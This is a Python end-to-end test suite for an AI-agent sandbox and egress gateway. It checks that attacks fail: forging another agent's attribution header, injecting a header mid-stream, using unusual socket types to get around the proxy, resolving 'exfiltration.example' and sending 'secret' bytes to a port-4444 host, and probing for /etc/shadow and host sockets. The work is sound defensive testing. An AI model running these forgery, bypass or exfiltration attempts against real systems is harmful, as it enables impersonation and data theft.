"""Agents that try to be somebody else, or to have been elsewhere: nothing is ever attributed but to its sender.

That each attack works where the protection is off is shown in tests/kernel/test_stamp_bypass.py, beside the kernel
part that stops it; here the whole product is in front of it.
"""

from __future__ import annotations

import asyncio
import base64
import json
import subprocess
from ipaddress import ip_address
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from instances import DEADLINE_S, instance
from stack import ROOT, RUN_PYTHON, RUN_SHELL, Daemon, StandIn, agent, egress, invoke

from clrk.core import wire
from clrk.ebpf.header import HeaderFields, build_headers

pytestmark = [pytest.mark.kernel, pytest.mark.e2e]

ROUNDS = 150
VICTIM_DESTINATION = "198.51.100.77"  # RFC 5737; no agent of this file ever dials it


@pytest.fixture(scope="module")
def own(tmp_path_factory: pytest.TempPathFactory, providers: StandIn) -> Any:
    """A daemon of this file's own, so that every span in its store is of one of these tests."""
    tools = tmp_path_factory.mktemp("attacker")
    tools.chmod(0o755)
    source = ROOT / "tests/kernel/attacker.c"
    subprocess.run(["gcc", "-O2", "-Wall", "-pthread", "-o", tools / "attacker", source], check=True)
    python = ["/usr/bin/python3", "-I", "-c"]
    documents = [
        *egress(providers),
        agent("victim", [*python, RUN_SHELL]),
        agent("python", [*python, RUN_PYTHON], mounts={"/agent/attack": tools}),
    ]
    running = Daemon(tmp_path_factory.mktemp("attacked"), instance("at"), documents)
    running.start()
    yield running
    assert running.stop() == 0, running.log()


def every_span(daemon: Daemon) -> list[dict[str, Any]]:
    return [json.loads(line) for line in daemon.clrk("traces", "--since", "1h", "--json").splitlines()]


def calls(spans: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [span for span in spans if span["kind"] == "SPAN_KIND_CLIENT"]


async def forged_header(caller: aiohttp.ClientSession, daemon: Daemon) -> tuple[bytes, str]:
    """Return the very header of another agent's invocation, as far as anybody can know it, and that invocation's id."""
    _, victim = await invoke(caller, daemon, "victim", "echo alive")
    spans = daemon.spans_when_complete(victim)
    attributes = spans[0]["attributes"]
    run = next(span for span in spans if span["name"] == "invoke_agent victim")
    template, _ = build_headers(
        HeaderFields(
            kind=wire.KIND_TASK_AGENT,
            namespace="default",
            name="victim",
            uid=attributes["agent.uid"],
            revision=attributes["agent.revision"],
            invocation_id=victim,
            sandbox_id=attributes["clrk.sandbox.id"],
            netns_name=f"{daemon.instance}-{attributes['clrk.sandbox.id']}",
            traceparent=f"00-{run['trace_id']}-{run['span_id']}-01",
        )
    )
    header = bytearray(template)
    header[wire.V4_DST_OFFSET : wire.V4_DST_OFFSET + 4] = ip_address(VICTIM_DESTINATION).packed
    header[wire.V4_DST_PORT_OFFSET : wire.V4_DST_PORT_OFFSET + 2] = (443).to_bytes(2, "big")
    return bytes(header), victim


def assert_nobody_else(daemon: Daemon, victim: str) -> None:
    """No egress span at all says the victim's name, or the destination that only the forged header names."""
    for span in calls(every_span(daemon)):
        attributes = span["attributes"]
        assert attributes["invocation.id"] != victim, span
        assert attributes["agent.name"] != "victim", span
        assert attributes.get("network.peer.address") != VICTIM_DESTINATION, span


async def test_forged_bytes_in_front_of_the_stamp(own: Daemon, caller: aiohttp.ClientSession) -> None:
    """A send() entered in SYN_SENT gets out before the stamp: the gateway refuses each such connection by name."""
    header, victim = await forged_header(caller, own)
    forged = base64.b64encode(header + b"GET / HTTP/1.1\r\nhost: forged.internal\r\n\r\n").decode()
    attack = f"""
import base64, subprocess
open('/tmp/forged', 'wb').write(base64.b64decode('{forged}'))
done = subprocess.run(['/agent/attack/attacker', '203.0.113.5', '80', '{ROUNDS}', '/tmp/forged'],
                      capture_output=True, text=True)
assert done.returncode == 0, done
print(done.stdout)
"""
    spans, malformed = [], []
    async with asyncio.timeout(2 * DEADLINE_S):
        while not malformed:  # until a send has won the race: how soon one does is the scheduler's affair
            text, invocation_id = await invoke(caller, own, "python", attack)
            assert int(text) > 0
            spans += calls(own.spans_when_complete(invocation_id))
            malformed = [span for span in spans if span["name"] == "egress.proxy.malformed"]
    assert {span["status"]["code"] for span in malformed} == {"STATUS_CODE_ERROR"}
    for span in spans:  # forged first, or stamped and then refused as what it is: a proxy header to 203.0.113.5:80
        assert span["name"] in ("egress.proxy.malformed", "egress.dial.denied")
        assert (span["attributes"]["network.peer.address"], span["attributes"]["network.peer.port"]) == (
            "203.0.113.5",
            80,
        )
        assert span["attributes"]["process.executable.name"] == "attacker"
    assert_nobody_else(own, victim)


async def test_a_second_header_in_mid_stream(own: Daemon, caller: aiohttp.ClientSession) -> None:
    header, victim = await forged_header(caller, own)
    request = b"GET /orders/1042 HTTP/1.1\r\nhost: tools.internal\r\n\r\n"
    forged = base64.b64encode(header + request).decode()
    text, invocation_id = await invoke(
        caller,
        own,
        "python",
        f"""
import base64, json, socket
sock = socket.create_connection(('tools.internal', 80))
sock.sendall({request!r})
first = sock.recv(65536)
sock.sendall(base64.b64decode('{forged}'))
rest = b''
while piece := sock.recv(65536):
    rest += piece
print(json.dumps([first.split(b' ')[1].decode(), rest.decode('latin-1')]))
""",
    )
    first, rest = json.loads(text)
    assert first == "200"
    assert " 200 " not in rest.partition("\r\n")[0]
    spans = calls(own.spans_when_complete(invocation_id))
    assert {span["attributes"]["invocation.id"] for span in spans} == {invocation_id}
    assert {span["attributes"]["clrk.dst.name"] for span in spans} == {"tools.internal"}
    assert [span["name"] for span in spans].count("GET tools.internal") == 1
    assert_nobody_else(own, victim)


async def test_reconnecting_a_socket_names_each_destination(own: Daemon, caller: aiohttp.ClientSession) -> None:
    _, invocation_id = await invoke(
        caller,
        own,
        "python",
        """
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
sock = socket.socket()
for address in ('203.0.113.1', '203.0.113.2'):
    sock.connect((address, 80))
    sock.sendall(b'GET / HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n')
    assert b'403' in sock.recv(65536)
    assert libc.connect(sock.fileno(), (ctypes.c_uint16 * 8)(0), 16) == 0, os.strerror(ctypes.get_errno())
""",
    )
    spans = calls(own.spans_when_complete(invocation_id))
    assert [span["name"] for span in spans] == ["egress.dial.denied"] * 2
    assert [span["attributes"]["network.peer.address"] for span in spans] == ["203.0.113.1", "203.0.113.2"]


@pytest.mark.parametrize(
    ("attempt", "error"),
    [
        ("socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)", "EPERM ENOPROTOOPT EPROTONOSUPPORT"),  # MPTCP
        (
            "socket.socket().sendto(b'x', 0x20000000, ('203.0.113.1', 80))",
            "ENOTSUP",
        ),  # MSG_FASTOPEN: the errno has two names
        ("socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('203.0.113.1', 443))", "EPERM"),
        ("socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ('2001:db8::1', 443))", "EPERM"),
        ("socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)", "EPERM EPROTONOSUPPORT"),  # UDPLITE
        ("socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)", "EPERM"),
        ("socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)", "EPERM EAFNOSUPPORT"),
        ("socket.socket(socket.AF_VSOCK)", "EPERM EAFNOSUPPORT"),
        ("socket.socket().bind(('169.254.0.1', 15001))", "EPERM"),
        ("socket.socket().bind(('0.0.0.0', 80))", "EPERM EACCES"),
        ("socket.socket().connect(('169.254.0.1', 15001))", "EPERM"),
        ("socket.socket(socket.AF_INET6).connect(('fd00:c1::1', 15001))", "EPERM"),
    ],
)
async def test_ways_around_the_gateway(own: Daemon, caller: aiohttp.ClientSession, attempt: str, error: str) -> None:
    text, _ = await invoke(
        caller,
        own,
        "python",
        f"""
import errno, socket
try:
    {attempt}
    print('went through')
except OSError as exc:
    print(errno.errorcode[exc.errno])
""",
    )
    assert text.strip() in error.split()


async def test_the_own_header_can_not_be_read_back(own: Daemon, caller: aiohttp.ClientSession) -> None:
    """SO_TIMESTAMPING with the payload looped back shows a sender its own packets, header included, where it is on."""
    text, _ = await invoke(
        caller,
        own,
        "python",
        """
import select, socket
sock = socket.socket()
sock.setsockopt(socket.SOL_SOCKET, 37, 1 << 1 | 1 << 4)  # SO_TIMESTAMPING: TX_SOFTWARE, SOFTWARE
sock.connect(('tools.internal', 80))
sock.sendall(b'GET /orders/1042 HTTP/1.1\\r\\nhost: tools.internal\\r\\n\\r\\n')
assert b' 200 ' in sock.recv(65536)
try:
    data, control, _, _ = sock.recvmsg(65536, 4096, socket.MSG_ERRQUEUE | socket.MSG_DONTWAIT)
    print(len(data))
except BlockingIOError:
    print(0)
""",
    )
    assert text.strip() == "0"


async def test_a_denied_name_and_a_denied_address(own: Daemon, caller: aiohttp.ClientSession) -> None:
    text, invocation_id = await invoke(
        caller,
        own,
        "python",
        """
import socket
try:
    socket.getaddrinfo('exfiltration.example', 443)
    print('resolved')
except socket.gaierror:
    print('no such name')
raw = socket.create_connection(('203.0.113.66', 4444))
try:
    raw.sendall(b'\\x00secret\\n')
    print(raw.recv(100))
except ConnectionResetError:
    print('reset')
""",
    )
    assert text.splitlines() == ["no such name", "reset"]
    spans = {span["name"]: span for span in calls(own.spans_when_complete(invocation_id))}
    assert spans["egress.dns.denied"]["attributes"]["clrk.dst.name"] == "exfiltration.example"
    denied = spans["egress.dial.denied"]["attributes"]
    assert (denied["network.peer.address"], denied["network.peer.port"]) == ("203.0.113.66", 4444)
    assert denied["clrk.egress.deny_reason"]


async def test_nothing_of_the_host_is_in_reach(own: Daemon, caller: aiohttp.ClientSession, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("host")
    text, _ = await invoke(
        caller,
        own,
        "python",
        f"""
import json, os, socket
seen = [path for path in ('/etc/shadow', '/root/.bashrc', '/home', '/run/clrk/admin.sock', {str(secret)!r},
                          '/run/netns', '/sys/fs/cgroup/unified/{own.instance}') if os.path.exists(path)]
status = dict(line.split(':\\t', 1) for line in open('/proc/self/status') if ':\\t' in line)
caps = [status[name].strip() for name in ('CapInh', 'CapPrm', 'CapEff', 'CapBnd', 'CapAmb')]
print(json.dumps({{
    'seen': seen, 'interfaces': [name for _, name in socket.if_nameindex()], 'caps': caps, 'uid': os.getuid(),
    'pids': len([name for name in os.listdir('/proc') if name.isdigit()]), 'fds': os.listdir('/proc/self/fd'),
    'nnp': status['NoNewPrivs'].strip(), 'seccomp': status['Seccomp'].strip(),
}}))
""",
    )
    found = json.loads(text)
    assert set(found["seen"]) <= {"/home"}  # an empty folder at the most
    assert found["interfaces"] == ["lo"]
    assert found["pids"] <= 3
    assert set(found["caps"]) == {"0000000000000000"}
    assert (found["nnp"], found["seccomp"]) == ("1", "2")
    assert found["uid"] > 1000
    assert len(found["fds"]) <= 4
